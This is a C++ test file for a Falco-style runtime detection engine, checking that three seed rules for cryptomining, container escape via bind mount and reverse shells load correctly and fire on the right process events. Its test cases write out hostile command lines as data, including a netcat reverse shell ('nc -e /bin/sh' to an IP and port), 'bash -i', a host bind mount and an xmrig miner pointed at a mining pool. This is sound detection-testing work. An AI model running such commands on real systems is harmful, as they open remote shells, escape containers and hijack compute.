// The three rules that the product grew from: they load as written and judge real events.
#include <doctest/doctest.h>

#include <cctype>

#include "rule_support.h"

using namespace tiercel::rule;
using namespace tiercel::rule::test;

namespace {

Loaded load_seed(const LoadOptions& options = {}) {
  return load_paths(
      {(source_dir() / "rules" / "base.yaml").string(), (source_dir() / "tests/data/seed_rules.yaml").string()},
      options);
}

std::string matched(const std::shared_ptr<const RuleSet>& rules, const tiercel::context::Event& event) {
  Matcher matcher(rules);
  std::string out;
  for (const Match& match : matcher.match(event)) out += (out.empty() ? "" : ", ") + rules->rule(match.rule).name;
  return out;
}

}  // namespace

TEST_CASE("rule seed: loads unchanged, HIGH is Error, the response with its rules") {
  const Loaded loaded = load_seed();
  CHECK(loaded.diagnostics.errors() == 0);
  REQUIRE(loaded.rules);
  CHECK(loaded.rules->size() == 3);
  REQUIRE(loaded.rules->responses().size() == 1);
  const Response& response = loaded.rules->responses().front();
  CHECK(response.name == "Kill Cryptominer");
  CHECK(response.description == "Automatically terminate cryptomining processes");
  CHECK(response.action == Action{.type = ActionType::kKill, .target = ActionTarget::kProcess});
  CHECK(response.enabled);
  CHECK(!response.dry_run);  // the operator wrote it: it acts
  const auto id = loaded.rules->find("Cryptomining Process");
  REQUIRE(id);
  CHECK(loaded.rules->rule(*id).priority == Priority::kError);
  CHECK(loaded.rules->rule(*loaded.rules->find("Reverse Shell")).priority == Priority::kCritical);
  CHECK(loaded.rules->rule(*id).tags == std::vector<std::string>{"cryptomining", "mitre_resource_hijacking"});
  const EventTypes& needed = loaded.rules->event_types_needed();
  CHECK(needed.count() == 2);
  CHECK(needed[EVT_execve]);
  CHECK(needed[EVT_execveat]);
  CHECK(loaded.rules->fields_read().contains("proc.cmdline"));
  CHECK(loaded.rules->fields_read().contains("user.name"));
  CHECK(!loaded.rules->fields_read().contains("proc.env"));
}

TEST_CASE("rule seed: what append_output shows is asked of the kernel, fields and formats alike") {
  AppendOutput field, format;
  field.extra_fields = {"proc.env[TEAM]"};
  format.extra_formatted_fields = {{"team", "of %proc.env[TEAM]"}};
  for (const AppendOutput& entry : {field, format}) {
    LoadOptions options;
    options.append_output = {entry};
    const Loaded loaded = load_seed(options);
    REQUIRE(loaded.rules);
    CHECK(loaded.rules->fields_read().contains("proc.env"));
  }
}

TEST_CASE("rule seed: strict gives Falco's verdict") {
  LoadOptions strict;
  strict.strict = true;
  const Loaded loaded = load_seed(strict);
  CHECK(!loaded.rules);
  CHECK(errors_of(loaded).find("LOAD_ERR_YAML_VALIDATE Invalid priority") != std::string::npos);
}

TEST_CASE("rule seed: what fires and what does not") {
  const auto rules = load_seed().rules;
  REQUIRE(rules);
  struct Case {
    const char* comm;
    std::vector<std::string> argv;
    const char* rule;
  };
  const Case cases[] = {
      {"xmrig", {"xmrig"}, "Cryptomining Process"},
      {"miner", {"./miner", "-o", "stratum+tcp://pool:3333"}, "Cryptomining Process"},
      {"x", {"x", "https://pool.minergate.com"}, "Cryptomining Process"},
      {"xmrig-notes", {"xmrig-notes"}, ""},
      {"mount", {"mount", "--bind", "/host", "/mnt"}, "Container Escape via Mount"},
      {"mount", {"mount", "-t", "proc", "proc", "/proc"}, ""},
      {"umount", {"umount", "/host"}, ""},
      {"bash", {"bash", "-i"}, "Reverse Shell"},
      {"bash", {"bash", "-c", "true"}, ""},
      {"nc", {"nc", "-e", "/bin/sh", "10.0.0.9", "4444"}, "Reverse Shell"},
      {"python", {"python", "-c", "import socket"}, "Reverse Shell"},
      {"python3", {"python3", "-c", "import socket"}, ""},
  };
  for (const Case& c : cases) {
    World world;
    world.runs(c.comm, c.argv);
    CHECK_MESSAGE(matched(rules, *exec_event(world)).empty(), "on the host: " << c.comm);
    world.in_container();
    CHECK_MESSAGE(matched(rules, *exec_event(world)) == c.rule, c.comm);
    CHECK_MESSAGE(matched(rules, *open_event(world)).empty(), "no exec: " << c.comm);
  }
}

TEST_CASE("rule seed: the output, with what is appended by default") {
  const auto rules = load_seed().rules;
  World world;
  world.runs("xmrig", {"xmrig", "--donate-level", "1"});
  world.in_container("miner-pod");
  const TestEvent event = exec_event(world);
  Matcher matcher(rules);
  const auto matches = matcher.match(*event);
  REQUIRE(matches.size() == 1);
  const Rendered out = matcher.render(matches[0], *event);
  CHECK(
      out.message ==
      "Cryptomining detected (user=<NA> command=xmrig --donate-level 1 container=miner-pod) container_id=0123456789ab "
      "container_name=miner-pod container_image_repository=docker.io/library/nginx container_image_tag=1.25 "
      "k8s_pod_name=<NA> "
      "k8s_ns_name=<NA>");
  REQUIRE(out.fields.size() == 8);
  CHECK(out.fields[0].name == "user.name");
  CHECK(out.fields[2].name == "container.name");
  CHECK(out.fields[2].value.text == "miner-pod");
  CHECK(out.fields[6].name == "k8s.pod.name");
  CHECK(out.fields[6].value.kind == OutputValue::Kind::kNull);
}

TEST_CASE("rule seed: the shipped rules are the same, tagged with techniques, and Falco would take them") {
  std::vector<std::string> paths{(source_dir() / "rules" / "base.yaml").string()};
  for (const char* name : {"container_escape.yaml", "cryptomining.yaml", "reverse_shell.yaml"})
    paths.push_back((source_dir() / "rules" / name).string());
  LoadOptions strict;
  strict.strict = true;
  strict.warn_unused = false;
  const Loaded shipped = load_paths(paths, strict);
  CHECK(shipped.diagnostics.all().empty());
  REQUIRE(shipped.rules);
  const auto seed = load_seed().rules;
  for (RuleId id = 0; id < seed->size(); ++id) {
    const auto same = shipped.rules->find(seed->rule(id).name);
    REQUIRE(same);
    CHECK(shipped.rules->explain(*same) == seed->explain(id));
    CHECK(shipped.rules->rule(*same).output == seed->rule(id).output);
    CHECK(shipped.rules->rule(*same).priority == seed->rule(id).priority);
    const auto& tags = shipped.rules->rule(*same).tags;
    CHECK(std::any_of(tags.begin(), tags.end(), [](const std::string& tag) {
      return tag.size() >= 5 && tag[0] == 'T' && std::isdigit(static_cast<unsigned char>(tag[1]));
    }));
  }
}
